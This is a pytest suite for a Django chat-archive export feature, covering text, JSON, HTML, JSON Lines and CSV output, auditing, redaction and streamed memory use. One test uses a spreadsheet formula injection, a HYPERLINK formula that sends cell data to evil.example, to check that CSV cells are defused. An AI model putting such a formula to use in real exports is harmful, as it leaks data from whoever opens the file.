"""Exports: one chat as text, JSON and a printable page; many as JSON Lines or CSV, streamed
in bounded memory."""

import csv
import io
import json
import tracemalloc
from datetime import timedelta

import pytest
from asgiref.sync import sync_to_async

from chatbridge.archive import export
from chatbridge.archive.models import AuditEntry, Chat, ChatEvent
from tests.chatbridge.archive.factories import T0, make_chat

pytestmark = pytest.mark.django_db(transaction=True)

LIST = "/admin/archive/chat/"


async def streamed(response) -> bytes:
    assert response.streaming
    return b"".join([part async for part in response.streaming_content])


async def test_one_chat_as_text(staff_client):
    chat = await sync_to_async(make_chat)("chat-1")

    response = await staff_client.get(f"{LIST}{chat.pk}/export/txt/")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/plain")
    assert 'filename="chat-chat-1.txt"' in response["Content-Disposition"]
    text = response.content.decode()
    assert (
        "[2026-03-02 09:30:10] Ada Lovelace (customer): Hello, my order has not arrived  [read]"
        in text
    )
    assert "[2026-03-02 09:30:05] * Alice joined the chat" in text
    assert "shared parcel-photo.png (image/png)" in text


async def test_one_chat_as_json(staff_client, settings):
    settings.CHATBRIDGE_REDACT_PII = True
    chat = await sync_to_async(make_chat)("chat-1")

    response = await staff_client.get(f"{LIST}{chat.pk}/export/json/")

    data = json.loads(response.content)
    assert data["chat"]["chat_id"] == "chat-1"
    assert data["chat"]["duration_seconds"] == 425
    kinds = [event["kind"] for event in data["events"]]
    assert kinds == ["system", "message", "message", "message", "attachment", "system"]
    assert data["events"][1]["read_at"] == "2026-03-02T09:30:12Z"
    assert data["events"][3]["text"] == "Thanks, you can reach me at [email]"


async def test_one_chat_as_a_printable_page(staff_client):
    chat = await sync_to_async(make_chat)("chat-1")

    response = await staff_client.get(f"{LIST}{chat.pk}/export/html/")

    html = response.content.decode()
    assert response.status_code == 200
    assert "archive/print.css" in html
    assert "Hello, my order has not arrived" in html
    assert "<script" not in html and "<style" not in html


async def test_exports_are_audited(staff_client):
    chat = await sync_to_async(make_chat)("chat-1")

    await staff_client.get(f"{LIST}{chat.pk}/export/json/")
    await streamed(await staff_client.get(f"{LIST}export/csv/?status__exact=ended"))

    entries = [e async for e in AuditEntry.objects.order_by("pk")]
    assert [(e.action, e.chat_id, e.chat_count) for e in entries] == [
        ("export", "chat-1", 1),
        ("export", "", 1),
    ]
    assert entries[1].detail == "csv: status__exact=ended"


async def test_a_filtered_list_as_json_lines(staff_client):
    for n in range(3):
        await sync_to_async(make_chat)(f"c{n}", widget="sales" if n else "support")

    response = await staff_client.get(f"{LIST}export/jsonl/?widget_id=sales")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/x-ndjson")
    lines = (await streamed(response)).decode().splitlines()
    chats = [json.loads(line) for line in lines]
    assert sorted(c["chat"]["chat_id"] for c in chats) == ["c1", "c2"]
    assert all(len(c["events"]) == 6 for c in chats)


async def test_selected_chats_as_csv_through_the_action(staff_client):
    for n in range(3):
        await sync_to_async(make_chat)(f"c{n}")
    pks = [
        pk
        async for pk in Chat.objects.filter(chat_id__in=["c0", "c2"]).values_list("pk", flat=True)
    ]

    response = await staff_client.post(
        LIST, {"action": "export_csv", "_selected_action": [str(pk) for pk in pks]}
    )

    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO((await streamed(response)).decode())))
    assert {row["chat_id"] for row in rows} == {"c0", "c2"}
    assert len(rows) == 12
    assert rows[1]["text"] == "Hello, my order has not arrived"
    assert rows[1]["read_at"] == "2026-03-02T09:30:12Z"


async def test_every_cell_of_the_csv_export_is_defused(staff_client):
    """Names come from customers and agents as freely as message text does: a formula in any
    column would run when the export is opened in a spreadsheet."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    await sync_to_async(make_chat)(
        "c1", customer=formula, agent="@SUM(A1)", messages=[("CUSTOMER", "+1+1")]
    )

    response = await staff_client.get(f"{LIST}export/csv/")

    rows = list(csv.reader(io.StringIO((await streamed(response)).decode())))
    assert rows[0] == export.CSV_COLUMNS
    cells = [cell for row in rows for cell in row]
    assert all(cell[:1] not in {"=", "+", "-", "@", "\t", "\r"} for cell in cells), cells
    by_name = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    message = by_name[1]
    assert message["customer"] == "'" + formula
    assert message["agent"] == "'@SUM(A1)"
    assert message["name"] == "'" + formula
    assert message["text"] == "'+1+1"
    assert by_name[0]["name"] == "'@SUM(A1)"
    assert message["chat_id"] == "c1"
    assert message["seq"] == "2"
    assert message["started_at"] == "2026-03-02T09:30:00Z"
    assert message["read_at"] == "2026-03-02T09:30:12Z"
    assert [row["attachments"] for row in by_name if row["kind"] == "attachment"] == [
        "parcel-photo.png"
    ]


@pytest.mark.parametrize("cell", ["=HYPERLINK(1)", "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx"])
def test_csv_cells_that_look_like_formulas_are_defused(cell):
    assert export._csv_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["fine", "1+1", " =x", ""])
def test_csv_cells_that_do_not_start_a_formula_stay(cell):
    assert export._csv_safe(cell) == cell


def _big_archive(chats: int, events_per_chat: int) -> None:
    text = "A fairly ordinary customer message about an order that has not arrived yet. " * 2
    for c in range(chats):
        chat = Chat.objects.create(
            chat_id=f"big-{c}", display_name=f"Customer {c}", status="ended", started_at=T0
        )
        ChatEvent.objects.bulk_create(
            [
                ChatEvent(
                    chat=chat,
                    seq=n + 1,
                    item_id=f"big-{c}-{n}",
                    type="message",
                    content_type="text/plain",
                    content=f"{text} #{n}",
                    participant_role="CUSTOMER" if n % 2 else "AGENT",
                    display_name="Ada",
                    absolute_time=T0 + timedelta(seconds=n),
                )
                for n in range(events_per_chat)
            ],
            batch_size=1000,
        )


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_a_large_export_streams_in_bounded_memory(fmt):
    """20,000 events (some 4 MB of output) stream with a peak far below the output's size:
    memory holds a page of chats and one chat's events, never the whole export."""
    _big_archive(chats=200, events_per_chat=100)
    lines = (export.jsonl_lines if fmt == "jsonl" else export.csv_lines)(
        Chat.objects.order_by("pk")
    )

    tracemalloc.start()
    try:
        total = 0
        for line in lines:
            total += len(line)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert total > 3_500_000
    assert peak < 1_500_000, f"peak {peak} bytes for {total} bytes of output"


async def test_under_asgi_the_export_is_an_async_stream(staff_client):
    """Django reads a synchronous iterator to its end before sending it under ASGI: the
    export must hand over an asynchronous one."""
    await sync_to_async(make_chat)("c1")

    response = await staff_client.get(f"{LIST}export/jsonl/")

    assert response.is_async
    assert json.loads(await streamed(response))["chat"]["chat_id"] == "c1"
